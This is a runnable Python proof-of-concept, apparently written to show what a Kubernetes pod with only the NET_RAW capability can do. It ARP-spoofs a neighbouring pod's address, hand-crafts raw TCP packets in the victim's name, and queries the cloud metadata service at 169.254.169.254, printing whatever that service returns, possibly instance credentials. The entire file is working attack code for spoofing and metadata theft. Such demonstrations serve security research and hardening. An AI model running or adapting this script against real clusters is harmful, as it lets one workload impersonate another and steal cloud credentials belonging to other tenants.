"""What a pod does that poses as a neighbour: it claims the neighbour's address and speaks TCP by itself.

Run as a program: VICTIM GATEWAY TARGET. It asks TARGET, a path of the metadata service, in the name of VICTIM, and
prints what it is answered. It needs nothing but the capability NET_RAW.
"""

import os
import socket
import struct
import sys
import time
from pathlib import Path

METADATA = "169.254.169.254"
SECONDS = 5.0
FIN, SYN, PUSH, ACK = 1, 2, 8, 16


def checksum(data: bytes) -> int:
    words = struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Poser:
    def __init__(self, victim: str, gateway: str) -> None:
        self.line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.line.bind(("eth0", 0x0800))
        self.own = self.line.getsockname()[4]
        self.victim, self.gateway = socket.inet_aton(victim), socket.inet_aton(gateway)
        self.server = socket.inet_aton(METADATA)
        self.port = 40_000 + os.getpid() % 20_000
        self.next_hop = self.address_of(gateway)

    def address_of(self, gateway: str) -> bytes:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"?", (gateway, 9))
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
            time.sleep(0.01)
        sys.exit("the gateway is not to be found")

    def claim(self) -> None:
        """Ask for the gateway as if with the victim's address: who is asked remembers where that is."""
        head = self.next_hop + self.own + struct.pack("!H", 0x0806)
        question = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + self.own + self.victim + bytes(6) + self.gateway
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as asking:
            asking.bind(("eth0", 0x0806))
            asking.send(head + question)

    def send(self, flags: int, sequence: int, acknowledged: int, data: bytes = b"") -> None:
        tcp = struct.pack("!HHIIBBHHH", self.port, 80, sequence, acknowledged, 5 << 4, flags, 65_000, 0, 0)
        pseudo = self.victim + self.server + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        length = 20 + len(tcp) + len(data)
        packet = struct.pack("!BBHHHBBH", 0x45, 0, length, 7, 0, 64, 6, 0) + self.victim + self.server
        packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
        self.line.send(self.next_hop + self.own + struct.pack("!H", 0x0800) + packet + tcp + data)

    def receive(self, until: float) -> tuple[int, int, int, bytes]:
        """Flags, sequence, acknowledgement and data of the next packet of this connection."""
        while (left := until - time.monotonic()) > 0:
            self.line.settimeout(left)
            try:
                frame = self.line.recv(70_000)
            except TimeoutError:
                break
            packet = frame[14:]
            start = (packet[0] & 15) * 4
            if packet[9] != 6 or packet[12:16] != self.server or packet[16:20] != self.victim:
                continue
            tcp = packet[start : struct.unpack("!H", packet[2:4])[0]]
            source, port, sequence, acknowledged, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
            if (source, port) == (80, self.port):
                return flags, sequence, acknowledged, tcp[(offset >> 4) * 4 :]
        sys.exit("no answer: nobody is taken in")

    def ask(self, target: str) -> str:
        until = time.monotonic() + SECONDS
        self.claim()
        self.send(SYN, 100, 0)
        flags, sequence, _, _ = self.receive(until)
        if flags & (SYN | ACK) != SYN | ACK:
            sys.exit("refused")
        expected = sequence + 1
        request = f"GET {target} HTTP/1.1\r\nHost: {METADATA}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode()
        self.send(ACK, 101, expected)
        self.send(ACK | PUSH, 101, expected, request)
        answer = b""
        while True:
            flags, sequence, _, data = self.receive(until)
            if sequence == expected:
                answer += data
                expected += len(data)
            if data or flags & FIN:
                self.send(ACK, 101 + len(request), expected)
            if flags & FIN and sequence <= expected:
                return answer.decode()


if __name__ == "__main__":
    try:
        poser = Poser(*sys.argv[1:3])
    except PermissionError:
        sys.exit("not permitted: no raw packets")
    print(poser.ask(sys.argv[3]))
